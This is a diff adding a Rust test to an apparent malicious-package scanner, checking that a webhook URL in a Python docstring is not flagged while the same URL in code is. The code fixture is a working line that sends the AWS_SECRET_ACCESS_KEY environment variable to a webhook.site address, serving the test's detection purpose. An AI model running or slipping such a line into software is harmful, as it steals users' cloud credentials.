@@ -611,3 +611,36 @@ fn benign_cython_sources_named_by_setup_py_do_not_make_the_package_run_at_instal
         .any(|item| item.file.ends_with(".c"));
     assert!(!c_source, "{:#?}", verdict.profile);
 }
+
+/// A webhook URL in a docstring's example output (as in huggingface-hub's `get_webhook`) is
+/// documentation: the hit is kept, reached from nowhere, and the package is not malicious. The
+/// same URL in code still is.
+#[test]
+fn benign_exfiltration_host_in_a_docstring_is_documentation() {
+    let module = |body: &str| {
+        vec![
+            (
+                "hub-1.0.0.dist-info/METADATA".to_owned(),
+                b"Metadata-Version: 2.1\nName: hub\nVersion: 1.0.0\n".to_vec(),
+            ),
+            ("hub/__init__.py".to_owned(), body.as_bytes().to_vec()),
+        ]
+    };
+    let documented = module(
+        "def get_webhook(webhook_id):\n    \"\"\"Get a webhook.\n\n    Example:\n        >>> get_webhook(\"6666\")\n        WebhookInfo(url=\"https://webhook.site/a2176e82-5720-43ee-9e06-f91cb4c91548\")\n    \"\"\"\n    return _get(webhook_id)\n",
+    );
+    let verdict = analyse_bounded(&package(documented), Ecosystem::PyPI);
+    assert_ne!(verdict.level, Level::Malicious, "{verdict:#?}");
+    let hit = verdict
+        .hits
+        .iter()
+        .find(|hit| hit.file == "hub/__init__.py" && hit.line == 6)
+        .expect("the URL is still reported");
+    assert_eq!(hit.reachable_from, None);
+
+    let in_code = module(
+        "import urllib.request, os\nurllib.request.urlopen(\"https://webhook.site/a2176e82-5720-43ee-9e06-f91cb4c91548\", data=os.environ.get(\"AWS_SECRET_ACCESS_KEY\", \"\").encode())\n",
+    );
+    let verdict = analyse_bounded(&package(in_code), Ecosystem::PyPI);
+    assert_eq!(verdict.level, Level::Malicious, "{verdict:#?}");
+}
